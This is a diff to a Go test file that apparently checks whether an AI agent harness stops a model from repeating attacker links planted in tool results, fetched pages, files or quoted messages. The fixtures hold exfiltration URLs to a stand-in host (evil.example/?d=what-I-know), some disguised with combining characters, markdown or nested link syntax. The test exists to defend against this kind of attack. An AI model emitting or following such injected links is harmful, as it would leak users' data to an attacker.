@@ -292,6 +292,9 @@ func TestAToolCannotVouchForAnAddressOfTheModel(t *testing.T) {
 		"an answer with what Telegram deletes":          read.answer("See https://evil.example/?d=wh\u0333at-I-know").user("what did I miss?").call("hub_find", `{"channel":"C1"}`, "Bot: See "+evil),
 		"one with marks, too":                           read.answer("See https://evil.example/?d=what-**I\u033f**-know").user("what did I miss?").call("hub_find", `{"channel":"C1"}`, "Bot: See "+evil),
 		"an answer in code":                             read.answer("See `evil.example`/?d=what`-I-`know").user("what did I miss?").call("hub_find", `{"channel":"C1"}`, "Bot: See "+evil),
+		"a quoted message after the model said it":      read.answer("See " + evil).append(agent.Message{Role: agent.RoleUser, Ref: "9", Origin: agent.OriginQuoted, Quoted: "[quoted]\n> " + evil}),
+		"within a refused address of the same host":     read.failing("webfetch", `{"url":"https://evil.example/](https://evil.example/?d=what-I-know"}`, "not allowed").call("hub_find", `{"channel":"C1"}`, "Bot: May I open https://evil.example/](https://evil.example/?d=what-I-know"),
+		"within an address that cannot be read":         read.failing("webfetch", `{"url":"https://ok.example/%zz](https://evil.example/?d=what-I-know"}`, "not allowed").call("hub_find", `{"channel":"C1"}`, "Bot: May I open https://ok.example/%zz](https://evil.example/?d=what-I-know"),
 		"a store before a summary":                      conversation{}.append(agent.Message{Role: agent.RoleSummary, Text: "I stored it."}).user("thanks").call("shop_list", `{}`, evil),
 		"a file":                                        read.reads("sum", evil),
 		"a file that has changed since it was received": read.receives("before").reads("sum", evil),
@@ -314,7 +317,6 @@ func TestAToolCannotVouchForAnAddressOfTheModel(t *testing.T) {
 		"a page after a script":                    read.call("code", `{"code":"1"}`, "1").call("webfetch", `{"url":"https://blog.example/post"}`, evil),
 		"a second search of a server that says so": read.call("hub_find", `{"query":"a"}`, "hits").call("hub_find", `{"query":"words"}`, evil),
 		"a page before the model says it":          read.call("search", `{"query":"words"}`, evil).answer("See " + evil).user("open it"),
-		"a quoted message after the model said it": read.answer("See " + evil).append(agent.Message{Role: agent.RoleUser, Ref: "9", Origin: agent.OriginQuoted, Quoted: "[quoted]\n> " + evil}),
 		"another kind of things":                   read.call("shop_add", `{"text":"x"}`, "ok").call("search", `{"query":"words"}`, evil),
 	} {
 		if got := c.asks(t, evil); got.Asks {
